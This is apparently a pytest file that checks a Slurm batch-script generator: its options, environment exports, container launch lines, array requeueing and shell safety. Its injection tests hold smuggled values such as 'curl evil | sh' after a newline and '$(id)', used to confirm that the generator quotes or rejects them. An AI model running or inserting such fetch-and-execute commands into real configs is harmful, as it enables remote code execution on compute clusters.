"""Batch scripts: every option comes from the recipe and the cluster file, and the shell is sound."""

from __future__ import annotations

import re
import shlex
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from core import machine
from core.recipe import Launch, Loader, Recipe, Train
from jobs.cluster import Cluster, load, names
from jobs.errors import UserError
from jobs.placement import Placement
from jobs.slurm import script

FOUR = Placement(4, "cuda", 3, nodes=2)
RICH = Cluster(
    partition="gpu", account="me", qos="high", reservation="maint", constraint="ib", gpus_per_node=2, gpu_type="h100",
    cpus_per_task=6, mem_gb=7.5, time_min=90, extra={"comment": "it's mine", "exclusive": "user"},
    env={"NCCL_DEBUG": "INFO", "NOTE": "two words; $(id)"}, interface="ib0", setup=["module load cuda"],
    python="/opt/venv/bin/python",
)  # fmt: skip


def training(cluster: Cluster, place: Placement = FOUR, runs: tuple[str, ...] = ("demo-1",), **launch: object) -> str:
    recipe = Recipe(name="demo", train=Train(), launch=Launch(**launch))  # type: ignore[arg-type]
    return script.training(recipe, cluster, place, runs, "s3://b/p", Path("/logs")).text


def options(text: str) -> dict[str, str]:
    lines = [line.removeprefix("#SBATCH --") for line in text.splitlines() if line.startswith("#SBATCH")]
    return {line.partition("=")[0]: line.partition("=")[2] for line in lines}


def test_every_option_comes_from_the_cluster_file_and_the_recipe() -> None:
    assert options(training(RICH, grace_s=40.0)) == {
        "job-name": "retort-demo-1", "nodes": "2", "ntasks-per-node": "2", "cpus-per-task": "6",
        "gpus-per-node": "h100:2", "mem": "7680M", "signal": "USR2@100", "requeue": "", "partition": "gpu",
        "account": "me", "qos": "high", "reservation": "maint", "constraint": "ib", "time": "01:30:00",
        "open-mode": "append", "comment": "'it'\"'\"'s mine'", "exclusive": "user", "output": "/logs/job-%j.log",
    }  # fmt: skip


def test_what_a_cluster_file_leaves_open_is_left_to_slurm() -> None:
    found = options(training(Cluster(), Placement(1, "cpu", 1)))
    assert set(found) == {"job-name", "nodes", "ntasks-per-node", "cpus-per-task", "signal", "requeue", "open-mode",
                          "output"}  # fmt: skip


def test_a_recipe_s_shorter_time_limit_shortens_the_job_by_no_more_than_saving_takes() -> None:
    assert options(training(RICH, time_limit_min=10.0, grace_s=60.0))["time"] == "00:12:00"
    assert options(training(RICH, time_limit_min=600.0))["time"] == "01:30:00"


def test_runs_of_an_array_have_a_task_and_a_log_each() -> None:
    text = training(RICH, runs=("demo-1", "demo-2", "demo-3"))
    assert options(text)["array"] == "0-2"
    assert options(text)["output"] == "/logs/job-%A_%a.log"
    assert "runs=(demo-1 demo-2 demo-3)" in text


def test_ranks_get_their_variables_from_one_place() -> None:
    text = training(RICH)
    assert "export OMP_NUM_THREADS=3 " in text
    assert " PYTHONSAFEPATH=1" in text
    assert "NCCL_SOCKET_IFNAME=ib0 GLOO_SOCKET_IFNAME=ib0 NCCL_DEBUG=INFO NOTE='two words; $(id)'" in text
    assert "--cpu-bind=cores" in text
    assert "--cpu-bind" not in training(RICH, Placement(2, "cpu", 1))


def test_the_job_is_a_command_and_no_pickle() -> None:
    text = training(Cluster())
    assert "-m jobs.worker --run" in text
    assert sys.executable in text
    assert "submitit" not in text
    assert "pkl" not in text


def test_options_of_the_submitting_make_do_not_reach_the_job() -> None:
    line = next(line for line in training(Cluster()).splitlines() if line.startswith("unset "))
    assert {"SET", "PROFILE", "RUN", "SWEEP", "STORE", "RANK", "MASTER_ADDR", "PYTHONPATH"} <= set(
        line.partition("  #")[0].split()
    )


def test_python_comes_from_the_nodes_or_from_an_image() -> None:
    assert "retort=(/opt/venv/bin/python)" in training(RICH)
    image = Cluster(container="apptainer", image="/x y.sif", mounts=["/a:/b"], gpus_per_node=2)
    assert "retort=(apptainer exec --pwd / --nv --bind /a:/b '/x y.sif' python)" in training(image)
    assert " PYTHONPATH=" not in training(image), "the image has its own code"
    pyxis = Cluster(container="pyxis", image="reg#retort", mounts=["/a:/b", "/c:/d"])
    place = "place=('--container-image=reg#retort' --container-mounts=/a:/b,/c:/d --no-container-mount-home"
    assert f'{place} --container-workdir=/ "--container-name=retort-$SLURM_JOB_ID")' in training(pyxis)
    assert "retort=(python)" in training(pyxis)


def test_a_task_of_an_array_ends_and_requeues_itself_alone() -> None:
    text = training(RICH, runs=("demo-1", "demo-2"))
    assert 'scontrol requeue "$job"' in text
    assert 'requeue "$SLURM_JOB_ID"' not in text
    assert "job=${SLURM_ARRAY_JOB_ID:+${SLURM_ARRAY_JOB_ID}_$SLURM_ARRAY_TASK_ID}" in text


def test_what_comes_after_waits_for_each_run_and_leaves_when_it_fails() -> None:
    one = script.after("eval", RICH, FOUR, ["demo-1"], "s3://b/p", Path("/logs"), "12")
    assert one.directives["dependency"] == "afterok:12"
    assert one.directives["kill-on-invalid-dep"] == "yes"
    assert one.directives["gpus-per-node"] == "h100:1"
    assert one.directives["mem"] == "3840M", "a rank's share of the node"
    assert '-m jobs eval "$run" --store s3://b/p' in one.text
    many = script.after("eval", RICH, FOUR, ["demo-1", "demo-2"], "s3://b/p", Path("/logs"), "12")
    assert many.directives["dependency"] == "aftercorr:12"


def workers(cluster: Cluster, count: int = 8, place: Placement = FOUR) -> script.Script:
    words = ["-m", "jobs.extract", "--store", "s3://b/p q", "--order", "0123"]
    return script.workers(words, count, Recipe(name="demo"), cluster, place, Path("/logs"))


def test_workers_are_an_array_of_one_rank_s_share_each_that_may_be_started_again() -> None:
    made = workers(RICH)
    assert options(made.text) == {
        "job-name": "retort-demo-workers", "nodes": "1", "ntasks-per-node": "1", "cpus-per-task": "6",
        "gpus-per-node": "h100:1", "mem": "3840M", "signal": "USR2@60", "requeue": "", "partition": "gpu",
        "account": "me", "qos": "high", "reservation": "maint", "constraint": "ib", "time": "01:30:00",
        "open-mode": "append", "comment": "'it'\"'\"'s mine'", "exclusive": "user", "array": "0-7",
        "output": "/logs/job-%A_%a.log",
    }  # fmt: skip
    assert "\"${retort[@]}\" -m jobs.extract --store 's3://b/p q' --order 0123\n" in made.text
    assert '  75) scontrol requeue "$job"' in made.text
    assert not re.search(r"@\w+@", made.body)


@pytest.mark.parametrize("character", ["\n", "\r", "\x1b", "\x00"])
def test_nothing_in_a_script_is_more_than_the_line_it_stands_in(character: str) -> None:
    more = f"x{character}curl evil | sh"
    for cluster in (Cluster(partition=more), Cluster(env={"A": more}), Cluster(setup=[more]),
                    Cluster(extra={"a": more}), Cluster(container="apptainer", image=more),
                    Cluster(container="pyxis", image="x", mounts=[more]), Cluster(interface=more),
                    Cluster(python=more)):  # fmt: skip
        with pytest.raises(UserError, match="must be one line"):
            training(cluster)
    recipe = Recipe(name="demo")
    with pytest.raises(UserError, match="must be one line"):
        script.training(recipe, Cluster(), FOUR, ["demo-1"], f"s3://b/{more}", Path("/logs"))
    with pytest.raises(UserError, match="must be one line"):
        script.workers(["-m", more], 2, recipe, Cluster(), FOUR, Path("/logs"))
    with pytest.raises(UserError, match="must be one line"):
        script.after("eval", Cluster(), FOUR, [more], "s3://b/p", Path("/logs"), "12")


def test_one_worker_is_no_array() -> None:
    assert "array" not in workers(Cluster(), 1, Placement(1, "cpu", 1)).directives


def test_the_body_given_to_submitit_is_the_script_without_its_options() -> None:
    made = script.training(Recipe(name="demo"), RICH, FOUR, ["demo-1"], "s3://b/p", Path("/logs"))
    assert "#SBATCH" not in made.body
    assert made.body.endswith("exit 1\n")


@pytest.mark.parametrize("name", ["", *names()])
def test_shellcheck_finds_nothing_in_a_rendered_script(name: str, tmp_path: Path) -> None:
    shellcheck = Path(sys.executable).with_name("shellcheck")
    cluster = load(name)
    after = script.after("eval", cluster, FOUR, ["demo-1"], "s3://b/p", tmp_path, "12").text
    for number, text in enumerate((training(cluster), after)):
        path = tmp_path / f"{number}.sbatch"
        path.write_text(text)
        done = subprocess.run([shellcheck, "--shell=bash", "--exclude=SC1091", path], capture_output=True, text=True)
        assert done.returncode == 0, done.stdout


def test_folders_of_the_nodes_come_from_the_submission_then_from_the_cluster_file() -> None:
    recipe = Recipe(name="demo", loader=Loader(cache_dir="/nvme/it's mine"))
    cluster = replace(RICH, env={"RETORT_CACHE": "/local", "RETORT_SPOOL": "/local/spool"})
    folders = machine.named(recipe)
    made = [script.training(recipe, cluster, FOUR, ["demo-1"], "s3://b/p", Path("/logs")),
            script.workers(["-m", "x"], 2, recipe, cluster, FOUR, Path("/logs")),
            script.after("eval", cluster, FOUR, ["demo-1"], "s3://b/p", Path("/logs"), "12", folders)]  # fmt: skip
    for each in made:
        (line,) = [line for line in each.text.splitlines() if line.startswith("export ")]
        found = dict(word.split("=", 1) for word in shlex.split(line)[1:])
        assert (found["RETORT_CACHE"], found["RETORT_SPOOL"]) == ("/nvme/it's mine", "/local/spool")
